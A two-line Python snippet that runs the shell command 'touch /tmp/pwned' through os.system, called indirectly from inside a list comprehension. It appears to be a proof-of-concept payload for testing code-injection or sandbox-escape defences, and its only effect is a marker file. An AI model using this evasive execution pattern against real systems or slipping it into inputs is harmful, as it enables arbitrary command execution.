import os
[f("touch /tmp/pwned") for f in [os.system]]
